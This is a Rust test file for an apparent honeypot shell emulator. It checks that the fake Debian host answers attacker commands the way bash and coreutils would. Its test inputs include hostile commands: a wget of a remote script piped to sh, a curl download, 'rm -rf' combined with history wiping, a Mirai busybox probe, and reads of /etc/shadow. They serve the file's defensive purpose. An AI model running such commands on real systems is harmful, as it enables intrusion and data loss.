//! What the shell says, and that all of it is one machine.

mod bash;
mod files;
mod lines;
mod patterns;

use super::*;
use crate::drive::said;

/// 2026-11-30T12:00:00Z.
const NOON: WallTime = WallTime(1_796_040_000_000_000);

fn answered(user: &str, line: &str) -> (String, String, u32) {
    let persona = Persona::of([7; 32]).named("web-01").unwrap();
    let mut output = Output::default();
    let _ = Shell::new(&persona, user.as_bytes(), NOON, false).run(line.as_bytes(), &mut Place::default(), &mut output);
    (said(&output.out), said(&output.err), output.status)
}

fn printed(line: &str) -> String {
    answered("root", line).0
}

#[test]
fn what_bots_ask_first_is_answered() {
    let table = [
        ("uname -a", "Linux web-01 KERNEL x86_64 GNU/Linux\n"),
        ("uname -s -v -n -r -m", "Linux web-01 KERNEL x86_64\n"),
        ("uname", "Linux\n"),
        ("/bin/uname -m", "x86_64\n"),
        ("id", "uid=0(root) gid=0(root) groups=0(root)\n"),
        ("whoami; pwd; hostname", "root\n/root\nweb-01\n"),
        ("echo -e '\\x6F\\x6B'", "ok\n"),
        ("cd /tmp && echo $((1)) || echo no", "1\n"),
        ("false || echo yes", "yes\n"),
        ("cat /etc/debian_version; cat /etc/issue", "RELEASE\nDebian GNU/Linux 13 \\n \\l\n\n"),
        ("which ls uname wget", "/usr/bin/ls\n/usr/bin/uname\n/usr/bin/wget\n"),
        ("ls", ""),
        ("chmod 777 x; rm -rf /tmp/*; history -c; unset HISTFILE; export A=b", ""),
        ("busybox MIRAI", ""),
    ];
    for (line, expected) in table {
        let persona = Persona::of([7; 32]);
        let kernel = format!("{} {}", persona.kernel(NOON).release, persona.kernel(NOON).build);
        let expected = expected.replace("KERNEL", &kernel).replace("RELEASE", persona.release(NOON));
        assert_eq!(printed(line), expected, "{line}");
    }
    assert_eq!(printed("cat /proc/cpuinfo | grep processor | wc -l"), printed("nproc"));
    assert!(printed("free -m | grep Mem | awk '{print $2}'").trim().parse::<u32>().unwrap() > 3_000);
    assert!(printed("lscpu | grep 'Model name'").starts_with("Model name: "));
    assert!(printed("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'").len() > 5);
    assert!(printed("w").starts_with(" 12:00:00 up ") && printed("uptime").ends_with('\n'));
    assert!(printed("ls -la").contains(" .bashrc\n") && printed("cat /proc/version").starts_with("Linux version 6."));
    assert!(printed("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'").ends_with("G\n"));
}

#[test]
fn what_is_not_there_is_complained_of_as_bash_does() {
    let missing = answered("root", "nosuch; /tmp/x");
    assert_eq!(missing.1, "bash: line 1: nosuch: command not found\nbash: line 1: /tmp/x: No such file or directory\n");
    assert_eq!(missing.2, NOT_FOUND);
    assert_eq!(answered("root", "nosuch 2>/dev/null").1, "");
    assert_eq!(answered("root", "cat /nothing").1, "cat: /nothing: No such file or directory\n");
    assert!(answered("root", "wget http://198.51.100.9/i.sh -O- | sh").1.contains("Network is unreachable"));
    assert_eq!(answered("root", "curl -s http://198.51.100.9/i.sh").2, 7);
    assert_eq!(answered("root", "busybox MIRAI").1, "MIRAI: applet not found\n");
}

#[test]
fn another_user_is_no_root_and_a_strange_one_is_nobody_strange() {
    assert_eq!(answered("admin", "id").0, "uid=1000(admin) gid=1000(admin) groups=1000(admin),27(sudo),100(users)\n");
    assert_eq!(answered("admin", "cat /etc/shadow").1, "cat: /etc/shadow: Permission denied\n");
    assert_eq!(answered("a\x1b[2J", "whoami").0, "user\n");
    let persona = everything(Persona::of([7; 32]));
    let (told, _) = run_all(&persona, "postgres", &["id", "pwd", "cat /etc/passwd | grep -c postgres"], false);
    let number = between_parens(&told);
    assert_eq!(
        told,
        format!("uid={0}(postgres) gid={1}(postgres) groups={1}(postgres)\n/var/lib/postgresql\n1\n", number.0, number.1)
    );
    assert!(number.0 < 1_000 && number.1 < 1_000, "a package's");
    assert_eq!(run_all(&persona, "www-data", &["id"], false).0, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
}

#[test]
fn others_are_asked_for_by_name() {
    let table = [
        ("root", "id nobody", "uid=65534(nobody) gid=65534(nogroup) groups=65534(nogroup)\n"),
        (
            "admin",
            "id root; id -u; id -un root; id -G; id -Gn",
            "uid=0(root) gid=0(root) groups=0(root)\n1000\nroot\n1000 27 100\nadmin sudo users\n",
        ),
        ("root", "id sync", "uid=4(sync) gid=65534(nogroup) groups=65534(nogroup)\n"),
    ];
    for (user, line, expected) in table {
        assert_eq!(answered(user, line).0, expected, "{line}");
    }
    assert_eq!(answered("root", "id nosuch").1, "id: \u{2018}nosuch\u{2019}: no such user\n");
    assert_eq!(answered("root", "id -x").1, "id: invalid option -- 'x'\nTry 'id --help' for more information.\n");
}

#[test]
fn who_has_no_shell_is_nobody_to_log_in() {
    let persona = everything(Persona::of([7; 32]));
    let let_in = ["root", "postgres", "admin", "oracle"];
    let refused = ["sync", "www-data", "ftp", "nobody", "systemd-network", "redis", "Debian-snmp", "sshd"];
    assert!(let_in.iter().all(|user| has_shell(&persona, user.as_bytes())));
    assert!(refused.iter().all(|user| !has_shell(&persona, user.as_bytes())));
    assert!(has_shell(&Persona::of([7; 32]), b"redis"), "where none runs it is somebody's");
}

#[test]
fn output_is_bounded_and_input_is_asked_for() {
    assert!(printed(&"cat /proc/cpuinfo;".repeat(60)).len() <= OUTPUT_BYTES_MAX);
    let persona = Persona::of([7; 32]);
    let shell = Shell::new(&persona, b"root", NOON, true);
    let reads = |line: &[u8]| {
        let mut output = Output::default();
        let _ = shell.run(line, &mut Place::default(), &mut output);
        output.reads
    };
    assert_eq!(
        (reads(b"cat > /tmp/x"), reads(b"bash -s"), reads(b"cat"), reads(b"cat /etc/issue")),
        (Some(Reads::File), Some(Reads::Commands), Some(Reads::Echo), None)
    );
    assert_eq!(shell.run(b"id; exit; id", &mut Place::default(), &mut Output::default()), Outcome::Exit);
}

fn between_parens(id: &str) -> (u32, u32) {
    let number = |name: &str| id.split(name).nth(1).unwrap().split('(').next().unwrap().parse().unwrap();
    (number("uid="), number("gid="))
}

fn run_all(persona: &Persona, user: &str, lines: &[&str], interactive: bool) -> (String, String) {
    let (mut place, mut output) = (Place::default(), Output::default());
    let shell = Shell::new(persona, user.as_bytes(), NOON, interactive);
    place.enter(NOON);
    for line in lines {
        let _ = shell.run(line.as_bytes(), &mut place, &mut output);
    }
    (said(&output.out), said(&output.err))
}

const PLAYED: [&str; 15] = [
    "ssh",
    "http",
    "ftp",
    "smtp",
    "imap",
    "redis",
    "memcached",
    "mysql",
    "postgresql",
    "dns",
    "mongodb",
    "ldap",
    "mqtt",
    "snmp",
    "docker",
];

/// The machine on which all of these are played.
fn everything(persona: Persona) -> Persona {
    let all: Vec<crate::Definition> =
        PLAYED.iter().map(|name| crate::Definition { service: name.to_string(), ..crate::Definition::default() }).collect();
    persona.serving(&all)
}

#[test]
fn a_folder_is_entered_and_left() {
    let persona = Persona::of([7; 32]).named("web-01").unwrap();
    let run = |lines: &[&str]| run_all(&persona, "root", lines, true);
    assert_eq!(run(&["cd /tmp; pwd"]).0, "/tmp\n");
    assert_eq!(run(&["cd /tmp", "cd", "pwd", "cd -", "cd ..", "pwd"]).0, "/root\n/tmp\n/\n");
    assert_eq!(
        run(&["cd /nosuch || cd /var/run", "pwd"]),
        ("/var/run\n".into(), "-bash: cd: /nosuch: No such file or directory\n".into())
    );
    assert_eq!(run(&["cd /etc/passwd"]).1, "-bash: cd: /etc/passwd: Not a directory\n");
    assert_eq!(run(&["mkdir -p /tmp/.x; cd /tmp/.x && pwd", "cd ..", "ls -A; ls -a"]).0, "/tmp/.x\n.x\n.\n..\n.x\n");
    assert_eq!(
        run_all(&persona, "admin", &["cd /root", "pwd"], true),
        ("/home/admin\n".into(), "-bash: cd: /root: Permission denied\n".into())
    );
    let (mut place, shell) = (Place::default(), Shell::new(&persona, b"root", NOON, true));
    assert_eq!(shell.prompt(&place), "root@web-01:~# ");
    let _ = shell.run(b"cd .ssh", &mut place, &mut Output::default());
    assert_eq!(shell.prompt(&place), "root@web-01:~/.ssh# ");
    let _ = shell.run(b"cd /var/log", &mut place, &mut Output::default());
    assert_eq!(shell.prompt(&place), "root@web-01:/var/log# ");
}

#[test]
fn whoever_is_in_passwd_is_in_shadow_and_a_services_user_is_there_where_it_runs() {
    let mut hashes = alloc::collections::BTreeSet::new();
    for persona in crate::persona::tests::seeds() {
        let (passwd, _) = run_all(&persona, "root", &["cat /etc/passwd"], false);
        let (shadow, _) = run_all(&persona, "root", &["cat /etc/shadow"], false);
        let names = |text: &str| text.lines().map(|line| line.split(':').next().unwrap().to_string()).collect::<Vec<_>>();
        assert_eq!(names(&passwd), names(&shadow));
        assert!(
            passwd.lines().all(|line| line.split(':').count() == 7) && shadow.lines().all(|line| line.split(':').count() == 9)
        );
        let root = shadow.lines().next().unwrap();
        let hash = root.split(':').nth(1).unwrap();
        assert!(hash.starts_with("$y$j9T$") && hash.len() == 73, "{hash}");
        let changed: u64 = root.split(':').nth(2).unwrap().parse().unwrap();
        assert_eq!(changed, persona.installed() / 86_400);
        hashes.insert(hash.to_string());
    }
    assert_eq!(hashes.len(), 200);
    let persona = everything(Persona::of([7; 32]));
    let (passwd, _) = run_all(&persona, "root", &["cat /etc/passwd"], false);
    for name in [
        "postgres",
        "mysql",
        "redis",
        "memcache",
        "postfix",
        "dovecot",
        "dovenull",
        "bind",
        "ftp",
        "openldap",
        "mosquitto",
        "Debian-snmp",
    ] {
        assert!(passwd.lines().any(|line| line.starts_with(&format!("{name}:x:1"))), "{name}: {passwd}");
    }
    let numbers: Vec<&str> = passwd.lines().map(|line| line.split(':').nth(2).unwrap()).collect();
    assert_eq!(numbers.iter().collect::<alloc::collections::BTreeSet<_>>().len(), numbers.len(), "{passwd}");
    assert!(!run_all(&Persona::of([7; 32]), "root", &["cat /etc/passwd"], false).0.contains("redis"), "none runs there");
    let group = run_all(&persona, "root", &["cat /etc/group"], false).0;
    assert!(
        passwd
            .lines()
            .filter_map(|line| line.split(':').nth(3))
            .all(|number| group.lines().any(|line| line.split(':').nth(2) == Some(number))),
        "{group}"
    );
}

#[test]
fn processes_are_those_of_the_services_and_the_strangers_own() {
    for persona in crate::persona::tests::seeds().take(40).map(everything) {
        let (aux, _) = run_all(&persona, "root", &["ps aux"], true);
        let lines: Vec<&str> = aux.lines().collect();
        assert_eq!(lines[0], "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND");
        assert!(lines[1].starts_with("root           1  0.0  0.") && lines[1].ends_with(" /sbin/init"), "{}", lines[1]);
        let pid = |line: &str| line.split_whitespace().nth(1).unwrap().parse::<u32>().unwrap();
        let pids: Vec<u32> = lines[1..].iter().map(|line| pid(line)).collect();
        assert!(pids.is_sorted_by(|one, next| one < next), "each has its own: {aux}");
        for (command, count) in [
            ("[ksoftirqd/", persona.machine().cores.into()),
            ("sshd: /usr/sbin/sshd -D [listener]", 1),
            ("sshd-session: root@pts/0", 1),
            (" -bash", 1),
            (" ps aux", 1),
            ("mariadbd", 1),
            ("postgres: ", 5),
            ("/usr/sbin/named", 1),
        ] {
            assert_eq!(lines.iter().filter(|line| line.contains(command)).count(), count, "{command}: {aux}");
        }
        let passwd = run_all(&persona, "root", &["cat /etc/passwd"], true).0;
        for line in &lines[1..] {
            let user = line.split_whitespace().next().unwrap().trim_end_matches('+');
            assert!(passwd.lines().any(|known| known.starts_with(user)), "{line}");
            assert_eq!((line.len() > 70, &line[8..9], &line[16..17], &line[21..22]), (true, " ", " ", " "), "{line}");
        }
        let (full, _) = run_all(&persona, "root", &["ps -ef"], true);
        assert!(
            full.starts_with("UID          PID    PPID  C STIME TTY          TIME CMD\nroot           1       0  0 "),
            "{full}"
        );
        assert_eq!(full.lines().count(), lines.len());
        let (own, _) = run_all(&persona, "root", &["ps"], true);
        let own: Vec<&str> = own.lines().collect();
        assert_eq!((own[0], own.len()), ("    PID TTY          TIME CMD", 3), "{own:?}");
        assert!(own[1].ends_with(" pts/0    00:00:00 bash") && own[2].ends_with(" pts/0    00:00:00 ps"), "{own:?}");
        assert!(full.len() < OUTPUT_BYTES_MAX && aux.len() < OUTPUT_BYTES_MAX, "{} {}", full.len(), aux.len());
    }
}

#[test]
fn a_terminal_shows_no_more_of_a_line_than_it_is_wide() {
    let persona = everything(Persona::of([7; 32]));
    let lines = |columns: Option<u32>| {
        let (mut place, mut output) = (Place::default(), Output::default());
        columns.into_iter().for_each(|columns| place.widen(columns));
        output.screen = columns.is_some();
        let _ = Shell::new(&persona, b"root", NOON, columns.is_some()).run(b"ps -ef", &mut place, &mut output);
        said(&output.out).lines().map(str::len).max().unwrap()
    };
    assert_eq!((lines(Some(80)), lines(Some(132)), lines(Some(0)), lines(Some(1))), (80, 132, 80, 20));
    assert!(lines(None) > 140, "into a pipe goes all");
}

#[test]
fn who_is_there_is_told_everywhere_alike() {
    let persona = Persona::of([7; 32]);
    let (shown, _) = run_all(&persona, "root", &["w"], true);
    let lines: Vec<&str> = shown.lines().collect();
    assert!(lines[0].contains(",  1 user,  load average: ") && lines.len() == 3, "{shown}");
    assert_eq!(lines[1], "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU  WHAT");
    assert_eq!(lines[2], "root     pts/0    -                12:00    0.00s  0.02s   ?    w");
    assert_eq!(run_all(&persona, "root", &["who"], true).0, "root     sshd pts/0   2026-11-30 12:00\n");
    assert_eq!(run_all(&persona, "root", &["who; users"], false).0, "", "without a terminal nobody is at one");
    assert_eq!(run_all(&persona, "root", &["last"], true).1, "-bash: last: command not found\n", "Debian 13 has none");
}

#[test]
fn file_systems_follow_the_memory_and_columns_are_coreutils() {
    let column = |text: &str, mount: &str, at: usize| -> u64 {
        let line = text.lines().find(|line| line.ends_with(&format!(" {mount}"))).unwrap();
        line.split_whitespace().nth(at).unwrap().parse().unwrap()
    };
    for persona in crate::persona::tests::seeds() {
        let (df, _) = run_all(&persona, "root", &["df"], false);
        let memory = u64::from(persona.machine().memory_kib);
        assert_eq!((column(&df, "/dev/shm", 1), column(&df, "/run", 1)), (memory / 2 / 4 * 4, memory / 10 / 4 * 4), "{df}");
        assert!(column(&df, "/dev", 1) < memory / 2 && column(&df, "/dev", 1) > memory * 4 / 10, "{df}");
        assert!(df.starts_with("Filesystem     1K-blocks    Used Available Use% Mounted on\n"), "{df}");
        let (all, used, free) = (column(&df, "/", 1), column(&df, "/", 2), column(&df, "/", 3));
        assert!(all > used + free && used > 2_000_000, "{df}");
        let (human, _) = run_all(&persona, "root", &["df -h"], false);
        assert!(human.starts_with("Filesystem      Size  Used Avail Use% Mounted on\nudev            "), "{human}");
        let (mounts, _) = run_all(&persona, "root", &["mount | grep shm; cat /proc/mounts | grep ' /run '"], false);
        assert!(
            mounts.starts_with("tmpfs on /dev/shm type tmpfs (") && mounts.contains(&format!("size={}k", memory / 10 / 4 * 4)),
            "{mounts}"
        );
        let (free, _) = run_all(&persona, "root", &["free -k | grep Mem"], false);
        let meminfo = run_all(&persona, "root", &["cat /proc/meminfo | grep -m1 MemFree | awk '{print $2}'"], false).0;
        assert_eq!(free.split_whitespace().nth(3), Some(meminfo.trim()), "{free}");
    }
}

#[test]
fn dates_are_of_the_machine_and_none_is_older_than_it_or_yet_to_come() {
    let mut homes = alloc::collections::BTreeSet::new();
    for persona in crate::persona::tests::seeds() {
        let (root, _) = run_all(&persona, "root", &["ls -la ~"], false);
        assert!(root.starts_with("total ") && root.contains(" .bashrc\n"), "{root}");
        homes.insert(root);
        let (all, err) = run_all(&persona, "root", &["ls -la /; ls -la /etc; ls -l /var/log /etc/ssh"], false);
        assert_eq!(err, "");
        assert!(all.contains("lrwxrwxrwx  1 root root     7 ") || all.contains("lrwxrwxrwx   1 root root     7 "), "{all}");
        for line in all.lines().filter(|line| line.contains(" root ")) {
            // `Nov 30 12:00`, `Oct  4  2025`: this year's are of the half year before now.
            let words: Vec<&str> = line.split_whitespace().collect();
            let (month, time) = (words[5], words[7]);
            match time.contains(':') {
                true => assert!(["Jun", "Jul", "Aug", "Sep", "Oct", "Nov"].contains(&month), "{line}"),
                false => assert!(
                    matches!(time, "2025" | "2026") && (time == "2026" || ["Aug", "Oct", "Nov", "Dec"].contains(&month)),
                    "{line}"
                ),
            }
        }
    }
    assert!(homes.len() > 190, "{} homes of 200 nodes", homes.len());
}

/// How long a file is said to be is how long it is; and what is listed can be read, if only by root.
#[test]
fn what_is_listed_is_as_long_as_it_is_and_can_be_read() {
    for persona in crate::persona::tests::seeds().take(12).map(everything) {
        let name = if persona.host().len() > 6 { "edge-03" } else { "edge-0042" };
        let persona = persona.named(name).unwrap();
        let run = |user: &str, line: &str| run_all(&persona, user, &[line], false);
        for folder in ["/etc", "/root", "/etc/ssh", "/var/log"] {
            let (rows, _) = run("root", &format!("ls -lA {folder}"));
            for row in rows.lines().filter(|row| row.starts_with('-')) {
                let words: Vec<&str> = row.split_whitespace().collect();
                let (text, err) = run("root", &format!("cat {folder}/{}", words[8]));
                assert_eq!(err, "", "{row}");
                assert!(text.is_empty() || text.len().to_string() == words[4], "{row}: {}", text.len());
                let alone = run("root", &format!("ls -l {folder}/{}", words[8])).0;
                assert_eq!(alone.split_whitespace().nth(4), Some(words[4]), "{alone}");
            }
        }
        assert_eq!(run("root", "cat /etc/hostname").0, format!("{}\n", persona.host()));
        for path in [
            "/etc/crontab",
            "/etc/fstab",
            "/etc/resolv.conf",
            "/etc/machine-id",
            "/etc/motd",
            "/etc/ssh/sshd_config",
            "/root/.bash_history",
            "/proc/1/cmdline",
            "/proc/cmdline",
            "/proc/self/status",
            "/etc/gshadow",
            "/etc/sudoers",
        ] {
            assert!(run("root", &format!("cat {path}")).0.len() > 8, "{path}");
        }
        assert_eq!(run("root", "cat /dev/null"), (String::new(), String::new()));
        let denied = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", "/root/.bash_history"];
        for path in denied {
            assert_eq!(run("admin", &format!("cat {path}")).1, format!("cat: {path}: Permission denied\n"));
        }
        let names = |text: &str| text.lines().map(|line| line.split(':').next().unwrap().to_string()).collect::<Vec<_>>();
        assert_eq!(names(&run("root", "cat /etc/group").0), names(&run("root", "cat /etc/gshadow").0));
    }
    let sizes = |line: &str| {
        let all: alloc::collections::BTreeSet<String> =
            crate::persona::tests::seeds().take(40).map(|persona| run_all(&persona, "root", &[line], false).0).collect();
        all.len()
    };
    assert!(sizes("ls -l /var/log | grep dpkg.log | awk '{print $5}'") > 35 && sizes("ls -ld /proc | awk '{print $2}'") > 15);
}

/// What is in memory takes no blocks of the disk.
#[test]
fn a_total_counts_blocks_of_the_disk() {
    let rows = printed("ls -la /");
    let total: u64 = rows.lines().next().unwrap().strip_prefix("total ").unwrap().parse().unwrap();
    // `.`, `..`, boot, etc, home, media, mnt, opt, root, srv, usr, var and 16 KiB of lost+found.
    assert_eq!(total, 12 * 4 + 16, "{rows}");
}

#[test]
fn words_that_are_not_taken_are_refused_as_coreutils_do() {
    let host = "web-01";
    let table = [
        ("uname -p; uname -i; uname -o", "unknown\nunknown\nGNU/Linux\n", ""),
        ("uname -x", "", "uname: invalid option -- 'x'\nTry 'uname --help' for more information.\n"),
        ("uname --all x", "", "uname: extra operand \u{2018}x\u{2019}\nTry 'uname --help' for more information.\n"),
        ("uname --machine --kernel-name", "Linux x86_64\n", ""),
        ("hostname -s; hostname -d; hostname -i", "web-01\nlocaldomain\n127.0.1.1\n", ""),
    ];
    for (line, out, err) in table {
        assert_eq!((answered("root", line).0.as_str(), answered("root", line).1.as_str()), (out, err), "{line}");
    }
    assert!(printed("hostname -I").starts_with("10.") && printed("hostname -I").ends_with(" \n"));
    assert!(answered("root", "hostname -x").1.starts_with("hostname: invalid option -- 'x'\nUsage: hostname "));
    let (told, id) = (printed("hostnamectl"), printed("cat /etc/machine-id"));
    assert!(told.contains(&format!(" Static hostname: {host}\n")) && told.contains(&format!("Machine ID: {id}")), "{told}");
}

#[test]
fn processors_are_told_alike_and_as_util_linux_lists_them() {
    for persona in crate::persona::tests::seeds().take(60) {
        let (cpuinfo, lscpu) =
            (run_all(&persona, "root", &["cat /proc/cpuinfo"], false).0, run_all(&persona, "root", &["lscpu"], false).0);
        let cores = persona.machine().cores;
        let of = |name: &str| {
            lscpu.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_else(|| panic!("{name}: {lscpu}")).trim()
        };
        let list = match cores {
            2 => "0,1".to_string(),
            cores => format!("0-{}", cores - 1),
        };
        assert_eq!((of("On-line CPU(s) list:"), of("NUMA node0 CPU(s):")), (list.as_str(), list.as_str()));
        assert!(cpuinfo.contains(&format!("flags\t\t: {}\n", of("Flags:"))));
        let bugs = cpuinfo.lines().find_map(|line| line.strip_prefix("bugs\t\t: ")).unwrap();
        assert_eq!(bugs.contains("cpu_meltdown"), of("Vulnerability Meltdown:") != "Not affected");
        assert_eq!(bugs.contains("srso"), of("Vulnerability Spec rstack overflow:") != "Not affected");
        assert_eq!(persona.machine().vendor == "AuthenticAMD", cpuinfo.contains("TLB size\t: 1024 4K pages\n"));
        assert!(lscpu.lines().all(|line| line.as_bytes()[40] == b' '), "{lscpu}");
        let (mut place, mut output) = (Place::default(), Output { screen: true, ..Output::default() });
        place.widen(80);
        let _ = Shell::new(&persona, b"root", NOON, true).run(b"lscpu", &mut place, &mut output);
        let shown = said(&output.out);
        assert!(
            shown.contains("\n  Model name:                ")
                && shown.contains("\nVulnerabilities:             \n  Gather data sampling:      "),
            "{shown}"
        );
        assert!(shown.lines().all(|line| line.chars().count() <= 80));
    }
}

/// As coreutils' `ls -C -w 40` puts these names.
#[test]
fn names_stand_in_columns_on_a_terminal_and_in_lines_elsewhere() {
    let persona = Persona::of([7; 32]);
    let shown = |line: &str, columns: u32| {
        let (mut place, mut output) = (Place::default(), Output { screen: true, ..Output::default() });
        place.widen(columns);
        let _ = Shell::new(&persona, b"root", NOON, true).run(line.as_bytes(), &mut place, &mut output);
        said(&output.out)
    };
    assert_eq!(shown("ls /var", 40), "backups  lib\tlock  mail  run    tmp\ncache\t local\tlog   opt   spool\n");
    assert_eq!(shown("ls /var", 80), "backups  cache\tlib  local  lock  log  mail  opt  run  spool  tmp\n");
    assert_eq!(shown("ls /var", 20), "backups  mail\ncache\t opt\nlib\t run\nlocal\t spool\nlock\t tmp\nlog\n");
    assert!(shown("ls /etc", 80).starts_with("adduser.conf  cron.daily      group\tld.so.cache  os-release   shadow\n"));
    assert_eq!(shown("ls /var | head -n 2; ls -1 /srv", 80), "backups\ncache\n");
    assert_eq!(shown("ls /srv /home", 80), "/srv:\n\n/home:\n");
}
